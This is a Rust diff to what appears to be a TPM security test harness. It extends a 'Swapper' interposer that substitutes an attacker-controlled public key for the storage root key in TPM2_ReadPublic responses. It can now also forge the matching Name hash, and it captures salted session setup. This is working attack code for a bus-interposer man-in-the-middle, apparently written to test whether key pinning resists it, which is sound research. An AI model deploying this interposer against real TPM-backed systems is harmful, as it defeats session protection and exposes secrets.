@@ -6,16 +6,26 @@ use std::sync::atomic::{AtomicUsize, Ordering};
 use aws_lc_rs::agreement::{ECDH_P256, PrivateKey, UnparsedPublicKey, agree};
 use aws_lc_rs::{digest, hmac};
 
-/// The thief. Tells the true Name of the storage root beside a false public area.
+/// The thief. Tells a false public area, and beside it a Name.
 #[derive(Debug)]
 pub struct Swapper {
     key: PrivateKey,
+    named: Named,
     srk_name: Vec<u8>,
     session: Option<Session>,
     /// How many public areas were swapped.
     pub swapped: Arc<AtomicUsize>,
     /// How many commands were found to be authorised in a session whose key the thief knows.
     pub opened: Arc<AtomicUsize>,
+}
+
+/// Which Name the thief tells.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Named {
+    /// That of the true storage root: what is pinned by its Name alone falls for it.
+    True,
+    /// That of the false public area: there is nothing for libtss2 to stumble over, so only a pin is in the way.
+    False,
 }
 
 #[derive(Debug)]
@@ -28,9 +38,10 @@ struct Session {
 impl Swapper {
     /// With a new key.
     #[track_caller]
-    pub fn new() -> Self {
+    pub fn new(named: Named) -> Self {
         let key = PrivateKey::generate(&ECDH_P256).expect("there is randomness");
-        Self { key, srk_name: Vec::new(), session: None, swapped: Arc::default(), opened: Arc::default() }
+        let (srk_name, counters) = (Vec::new(), (Arc::default(), Arc::default()));
+        Self { key, named, srk_name, session: None, swapped: counters.0, opened: counters.1 }
     }
 
     /// What to answer to a command: for [`Interposer::meddle`](crate::Interposer::meddle).
@@ -39,10 +50,15 @@ impl Swapper {
         let to_root = command.get(10..14) == Some(&STORAGE_ROOT);
         match command.get(6..10) {
             Some([0, 0, 1, 0x73]) if to_root && answer.len() >= 138 => {
-                self.srk_name = answer[104..138].to_vec();
                 let public = self.public();
                 answer[36..68].copy_from_slice(&public[1..33]);
                 answer[70..102].copy_from_slice(&public[33..65]);
+                if self.named == Named::False {
+                    // A Name is the algorithm and the hash of the public area (part 1, 16), which ends here.
+                    let name = digest::digest(&digest::SHA256, &answer[12..102]);
+                    answer[106..138].copy_from_slice(name.as_ref());
+                }
+                self.srk_name = answer[104..138].to_vec();
                 self.swapped.fetch_add(1, Ordering::SeqCst);
             }
             Some([0, 0, 1, 0x76]) if to_root => self.session = self.read_salt(command, &answer),
@@ -100,12 +116,6 @@ impl Swapper {
 
     fn public(&self) -> Vec<u8> {
         self.key.compute_public_key().map(|key| key.as_ref().to_vec()).unwrap_or_default()
-    }
-}
-
-impl Default for Swapper {
-    fn default() -> Self {
-        Self::new()
     }
 }
 
